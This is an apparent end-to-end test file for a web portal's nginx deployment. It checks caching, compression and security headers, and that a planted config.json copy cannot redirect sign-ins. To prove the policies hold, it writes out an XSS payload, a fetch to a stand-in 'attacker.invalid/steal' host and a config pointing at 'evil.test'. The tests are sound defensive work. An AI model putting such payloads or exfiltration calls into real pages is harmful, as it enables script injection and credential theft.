import { existsSync, rmSync, statSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import type { Browser, Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { paths } from '../src/domain/paths'
import { launch, openPage, signIn } from './browser'
import { watchPolicies } from './policyWatch'
import { portal } from './portal'

const portalUrl = portal.portalUrl
const apiOrigin = portal.apiOrigin
const reportOrigin = portal.reportOrigin

/** The pages' caching (deploy/): never fresh, a copy used for a day at most while asked for again. */
const pageCaching = 'max-age=0, stale-while-revalidate=86400'

async function get(path: string, headers: Record<string, string> = {}) {
  return fetch(`${portalUrl}${path}`, { headers })
}

function expectSecurityHeaders(response: Response) {
  const csp = response.headers.get('content-security-policy') ?? ''
  expect(csp).toContain(`connect-src 'self' ${apiOrigin}`)
  expect(csp).toContain(`frame-src ${reportOrigin}`)
  expect(csp).toContain("frame-ancestors 'none'")
  expect(csp).toContain("object-src 'none'")
  expect(csp).toContain("base-uri 'none'")
  expect(csp).toContain("require-trusted-types-for 'script'")
  // Plain HTTP: nothing to upgrade to, and HSTS only counts over HTTPS (see tls.e2e.ts).
  expect(csp).not.toContain('upgrade-insecure-requests')
  expect(response.headers.get('strict-transport-security')).toBeNull()
  const permissions = response.headers.get('permissions-policy') ?? ''
  expect(permissions).toContain('payment=()')
  expect(permissions).toContain(`fullscreen=(self "${reportOrigin}")`)
  expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin-allow-popups')
  expect(response.headers.get('cross-origin-resource-policy')).toBe('same-origin')
  expect(response.headers.get('x-frame-options')).toBe('DENY')
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
}

describe('the nginx deployment', () => {
  it('serves index.html never fresh (a copy at most a day old while asking), with the security headers', async () => {
    const response = await get('/')
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('text/html')
    expect(response.headers.get('cache-control')).toBe(pageCaching)
    expectSecurityHeaders(response)
  })

  it('falls back to index.html for the portal’s own routes', async () => {
    for (const path of ['/dashboard', '/ctv-analytics', '/some/deep/link']) {
      const response = await get(path)
      expect(response.status).toBe(200)
      expect(await response.text()).toContain('<div id="root"></div>')
    }
  })

  it('caches hashed assets for a year, compressed, with the security headers', async () => {
    const html = await (await get('/')).text()
    const asset = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''
    const response = await get(asset, { 'Accept-Encoding': 'gzip' })
    expect(response.status).toBe(200)
    expect(response.headers.get('cache-control')).toBe('max-age=31536000')
    expect(response.headers.get('content-encoding')).toBe('gzip')
    expectSecurityHeaders(response)
  })

  it('sends the build’s own gzip of a page or script as it is, and none of config.json', async () => {
    // The length of the file the build wrote (scripts/precompress.ts): nginx's own gzip, made per
    // request, is sent in chunks with no length.
    const gzipped = (file: string) => String(statSync(path.join(portal.distDir, `${file}.gz`)).size)
    const html = await (await get('/login')).text()
    const script = /src="\/(assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''
    for (const [address, file] of [
      ['/login', 'login.html'],
      [`/${script}`, script],
    ]) {
      const response = await get(address, { 'Accept-Encoding': 'gzip' })
      expect(response.headers.get('content-encoding'), address).toBe('gzip')
      expect(response.headers.get('content-length'), address).toBe(gzipped(file))
    }
    // Written at deploy time: no .gz of the build's stands in for it.
    expect(existsSync(path.join(portal.distDir, 'config.json.gz'))).toBe(false)
    const settings = await get('/config.json', { 'Accept-Encoding': 'gzip' })
    expect(await settings.text()).toContain(apiOrigin)
  })

  it('serves the deploy-time settings fresh for 5 minutes, then used while asked for again', async () => {
    const response = await get('/config.json')
    expect(response.headers.get('cache-control')).toBe('max-age=300, stale-while-revalidate=86400')
    expect(response.headers.get('content-security-policy')).toContain("default-src 'self'")
    expect(await response.text()).toContain(apiOrigin)
  })

  it('answers a missing asset with 404, not the page', async () => {
    expect((await get('/assets/missing-0000.js')).status).toBe(404)
  })
})

describe('the portal under its own policies (CSP, Trusted Types, Permissions-Policy)', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser.close())

  /** Loads `path` afresh and waits until its heading shows and its calls have answered. */
  async function visit(page: Page, path: string, heading: string) {
    await page.goto(`${portalUrl}${path}`)
    await page.getByRole('heading', { name: heading, exact: true }).waitFor()
    await page.waitForLoadState('networkidle')
  }

  it('catches what the policies refuse: an HTML string at a DOM sink, a call to another host', async () => {
    const { page, context, close } = await openPage(browser)
    const violations = await watchPolicies(context)
    await visit(page, paths.login, 'Sign in')
    const refused = await page.evaluate(async () => {
      const outcomes: string[] = []
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">')
        outcomes.push('HTML inserted')
      } catch (error) {
        outcomes.push(String(error))
      }
      outcomes.push(
        await fetch('https://attacker.invalid/steal').then(
          () => 'fetched',
          (error: unknown) => String(error),
        ),
      )
      return outcomes
    })
    expect(refused[0]).toMatch(/TrustedHTML/)
    expect(refused[1]).toMatch(/Failed to fetch/)
    await expect
      .poll(() => violations)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^require-trusted-types-for blocked trusted-types-sink/),
          'connect-src blocked https://attacker.invalid/steal',
        ]),
      )
    await close()
  })
})

describe('the settings a deployment wrote, and no copy of them (issue 43, N1)', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser.close())

  it('never sends a stale or planted config.json.gz or .br in its place; write-config removes them', async () => {
    // Another backend, which a browser that got this copy would send the sign-in form to.
    const planted = JSON.stringify({ apiBaseUrl: 'https://evil.test/' })
    const copies = [
      [path.join(portal.distDir, 'config.json.gz'), gzipSync(planted)],
      [path.join(portal.distDir, 'config.json.br'), brotliCompressSync(planted)],
    ] as const
    for (const [file, body] of copies) writeFileSync(file, body)
    try {
      for (const encoding of ['gzip', 'br', 'gzip, deflate, br']) {
        const served = await get('/config.json', { 'Accept-Encoding': encoding })
        expect(await served.json()).toMatchObject({ apiBaseUrl: `${apiOrigin}/` })
      }
      // In the browser, as a client signs in: the form goes to the deployment's backend.
      const { page, expectClean, close } = await openPage(browser)
      const posted: string[] = []
      page.on('request', (request) => {
        if (request.method() === 'POST') posted.push(request.url())
      })
      await signIn(page)
      expect(posted).toContain(`${apiOrigin}/api/auth/login`)
      expect(posted.filter((url) => url.includes('evil.test'))).toEqual([])
      expectClean()
      await close()

      // The operator writes the settings again, as docs/deploying.md says: the copies are gone.
      portal.configure({})
      for (const [file] of copies) expect(existsSync(file), file).toBe(false)
    } finally {
      for (const [file] of copies) rmSync(file, { force: true })
    }
  })
})
